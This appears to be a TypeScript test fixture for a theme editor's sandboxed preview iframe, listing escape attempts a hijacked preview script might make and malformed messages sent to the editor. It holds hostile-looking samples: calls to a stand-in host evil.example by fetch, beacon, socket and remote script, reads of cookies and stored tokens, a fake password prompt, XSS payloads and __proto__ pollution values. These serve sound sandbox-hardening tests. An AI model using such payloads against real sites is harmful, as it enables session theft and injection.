import { ORIGIN } from '../server-address.ts'

/**
 * What a preview tries that a script of somebody else took over. Each runs in the frame with the origin of the console, and returns
 * what it got hold of. It has failed if it throws or returns nothing.
 */
export const reaches: Record<string, (admin: string) => unknown> = {
  'the document of the editor': () => parent.document.title,
  'the address of the editor': () => parent.location.href,
  'the storage of the editor': () => parent.localStorage.length,
  'a variable of the editor': () => (parent as unknown as Record<string, unknown>)['React'],
  'the element of its frame': () => globalThis.frameElement?.id,
  'the other frames of the editor': () => parent.frames[0]!.parent.document.title,
  'an editor of the same domain': () => {
    document.domain = 'localhost'
    return parent.document.title
  },
  'an opener': () => opener as unknown,
  'tokens in its own storage': () => Object.keys(localStorage).find((key) => /token|session|auth/i.test(key)),
  cookies: () => document.cookie,
  'where the editor is, by the referrer': () => document.referrer.replace(/^https?:\/\/[^/]+\/$/, ''),
  'the API of the console, with its cookies': async (admin) => (await fetch(`${admin}/api/auth/me`, { credentials: 'include' })).status,
  'the API of the console, unseen': async (admin) => (await fetch(`${admin}/api/auth/me`, { mode: 'no-cors' })).type,
  'the API on its own host': async () => (await fetch('/api/products')).ok,
  'the console on its own host': async () => {
    const answer = await fetch('/admin/auth/login')
    return answer.ok && (await answer.text()).includes('Vitrine')
  },
  'another site': async () => (await fetch('https://evil.example/')).status,
  'another site, by a beacon': async () => {
    let blocked = false
    addEventListener('securitypolicyviolation', () => (blocked = true), { once: true })
    navigator.sendBeacon('https://evil.example/beacon', 'x')
    await new Promise((resolve) => setTimeout(resolve, 100))
    return !blocked
  },
  'another site, by an image': async () =>
    new Promise((resolve) => {
      const image = new Image()
      image.addEventListener('load', () => resolve(true))
      image.addEventListener('error', () => resolve(false))
      image.src = 'https://evil.example/pixel.png'
    }),
  'another site, by a socket': async () =>
    new Promise((resolve) => {
      const socket = new WebSocket('wss://evil.example/')
      socket.addEventListener('open', () => resolve(true))
      socket.addEventListener('error', () => resolve(false))
    }),
  'the console, by a socket': async (admin) =>
    new Promise((resolve) => {
      const socket = new WebSocket(admin.replace('http', 'ws'))
      socket.addEventListener('open', () => resolve(true))
      socket.addEventListener('error', () => resolve(false))
    }),
  'a script of another site': async () =>
    new Promise((resolve) => {
      const script = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })
      script.addEventListener('load', () => resolve(true))
      script.addEventListener('error', () => resolve(false))
      document.head.append(script)
    }),
  'a script in the page': () => {
    document.head.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.ranInline = true' }))
    return (globalThis as unknown as Record<string, unknown>)['ranInline']
  },
  'a script of a data URL': async () => {
    const address: string = 'data:text/javascript,export default 1'
    return (await import(address)) as unknown
  },
  'a style of another site': async () =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })
      link.addEventListener('load', () => resolve(true))
      link.addEventListener('error', () => resolve(false))
      document.head.append(link)
    }),
  'a worker': async () =>
    new Promise((resolve) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
      worker.addEventListener('message', () => resolve(true))
      worker.addEventListener('error', () => resolve(false))
    }),
  'a service worker': async () => (await navigator.serviceWorker.register('/sw.js')).scope,
  'the console in a frame of its own': async (admin) => {
    const frame = document.createElement('iframe')
    frame.src = `${admin}/admin/`
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 300))
    const { length } = frame.contentWindow!
    frame.remove()
    return length
  },
  'a frame without its policy': async () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.ranFrame = true</script>'
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 200))
    frame.remove()
    return (globalThis as unknown as Record<string, unknown>)['ranFrame']
  },
  'another base of its URLs': () => {
    document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
    return document.baseURI.includes('evil')
  },
  'the page of the editor': () => {
    top!.location.href = 'https://evil.example/'
    return true
  },
  'the page of the editor, by its parent': () => {
    parent.location.replace('https://evil.example/')
    return true
  },
  'a window': () => window.open('https://evil.example/'),
  'an alert': () => alert('Your session has expired'),
  'a confirmation': () => confirm('Delete?'),
  'a prompt': () => prompt('Password'),
  'the print dialog': () => print(),
  'the location of the device': async () =>
    new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve(true), reject)),
  'the camera': async () => navigator.mediaDevices.getUserMedia({ video: true }),
  'the clipboard': async () => navigator.clipboard.readText(),
  'the whole screen': async () => document.documentElement.requestFullscreen().then(() => true),
  'the pointer': async () => document.documentElement.requestPointerLock().then(() => true),
  'a payment': async () => {
    const details = { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }
    return new PaymentRequest([{ supportedMethods: 'https://evil.example/pay' }], details).show()
  },
}

/** Links and forms that such a preview puts into its page and uses, as the name and the properties of an element. */
export const elements: Record<string, readonly ['a' | 'form', Record<string, string>]> = {
  'the page of the editor, by a link': ['a', { href: 'https://evil.example/', target: '_top' }],
  'the page of the editor, by a form': ['form', { action: 'https://evil.example/', target: '_top' }],
  'a form that is sent to the console': ['form', { action: `${ORIGIN}/api/auth/logout`, method: 'post' }],
  'a window, by a link': ['a', { href: 'https://evil.example/', target: '_blank' }],
  'a download': ['a', { href: 'data:text/plain,x', download: 'x.txt' }],
}

/** Puts an element into the page, uses it and waits for what that leads to. Runs in the frame. */
export async function useElement([name, properties]: (typeof elements)[string]): Promise<void> {
  const element = Object.assign(document.createElement(name), properties)
  document.body.append(element)
  if (element instanceof HTMLFormElement) element.submit()
  else element.click()
  await new Promise((resolve) => setTimeout(resolve, 200))
  element.remove()
}

/**
 * Messages that no preview sends, as they are written in the frame: some can’t be passed to it from a test. Each must leave the
 * editor as it was.
 */
export const garbage: Record<string, () => unknown> = {
  null: () => null,
  nothing: () => undefined,
  'a number': () => 7,
  'a text': () => 'resync',
  'a long text': () => 'x'.repeat(2_000_000),
  'a list': () => [{ type: 'loaded', page: 'home' }],
  'a list of 10,000': () => Array.from({ length: 10_000 }, () => ({ type: 'resync' })),
  // A loop over it would take minutes.
  'a list with holes': () => ({ type: 'pick', part: { kind: 'header' }, field: Object.assign([], { length: 4_294_967_295 }) }),
  'a list of numbers': () => ({ type: 'sectionShown', section: 'x', more: new Float64Array(5_000_000) }),
  '200 levels': () => JSON.parse(`${'{"type":'.repeat(200)}1${'}'.repeat(200)}`) as unknown,
  '1,000 levels': () => {
    let deep: unknown = 1
    for (let level = 0; level < 1000; level++) deep = [deep]
    return deep
  },
  'a circle': () => {
    const circle: Record<string, unknown> = { type: 'loaded', page: 'home' }
    return (circle['more'] = circle)
  },
  '200,000 values': () => ({ type: 'loaded', page: 'home', more: Array.from({ length: 200_000 }, () => 1) }),
  'a key __proto__': () => JSON.parse('{"type":"loaded","page":"home","__proto__":{"isAdmin":true}}') as unknown,
  'a map': () => new Map([['type', 'resync']]),
  'a date': () => new Date(),
  'an error': () => new Error('resync'),
  bytes: () => new ArrayBuffer(1_000_000),
  'a file': () => new Blob(['x']),
  'no type': () => ({ page: 'home' }),
  'an unknown type': () => ({ type: 'publish', themeId: 'x' }),
  'the type of the other side': () => ({ type: 'config', rev: 99, data: {} }),
  'a type like an object’s': () => ({ type: 'constructor' }),
  'more than a message has': () => ({ type: 'navigated', page: 'cart', url: 'https://evil.example/' }),
  'a page that isn’t one': () => ({ type: 'navigated', page: 'admin' }),
  'a page like an object’s': () => ({ type: 'navigated', page: '__proto__' }),
  'a long handle': () => ({ type: 'navigated', page: 'product', handle: 'x'.repeat(256) }),
  'a part that isn’t one': () => ({ type: 'pick', part: { kind: 'settings', key: 'constructor' } }),
  'a path of objects': () => ({ type: 'pick', part: { kind: 'header' }, field: [{}, {}] }),
  'a path without an end': () => ({ type: 'pick', part: { kind: 'header' }, field: Array.from({ length: 33 }, () => 'x') }),
  'a place before the first': () => ({ type: 'pick', part: { kind: 'header' }, field: [-1] }),
  'a place that is no number': () => ({ type: 'pick', part: { kind: 'header' }, field: [NaN] }),
  'a shortcut that isn’t one': () => ({ type: 'keys', shortcut: 'delete' }),
  'a distance without an end': () => ({ type: 'scrolled', top: Infinity }),
  'a distance below zero': () => ({ type: 'scrolled', top: -1 }),
  'an error of 501 characters': () => ({ type: 'sectionError', section: 'x', message: 'x'.repeat(501) }),
  'an error as markup': () => ({ type: 'sectionError', section: { html: '<img src=x onerror=alert(1)>' }, message: 'x' }),
}

/** Messages of the right shape that make no sense. The editor may act on them, and must go on working. */
export const nonsense: Record<string, () => unknown> = {
  'an error of a section that isn’t there': () => ({ type: 'sectionError', section: 'gone', message: '<img src=x onerror=alert(1)>' }),
  'an error of __proto__': () => ({ type: 'sectionError', section: '__proto__', message: 'x' }),
  'a section that isn’t there': () => ({ type: 'pick', part: { kind: 'section', key: 'gone' } }),
  'the section __proto__': () => ({ type: 'pick', part: { kind: 'section', key: '__proto__' }, field: ['x'] }),
  'a setting that isn’t there': () => ({ type: 'pick', part: { kind: 'header' }, field: ['constructor', 'prototype', 0, 'x'] }),
  'a place far away': () => ({ type: 'pick', part: { kind: 'header' }, field: ['blocks', 1e9] }),
  'a handle that climbs': () => ({ type: 'navigated', page: 'product', handle: '../../admin/settings?x=<script>' }),
  'a page it doesn’t show': () => ({ type: 'loaded', page: 'order', handle: '__proto__' }),
  'a time of nothing': () => ({ type: 'applied', rev: 1e15, received: NaN, committed: -1, painted: Infinity }),
}
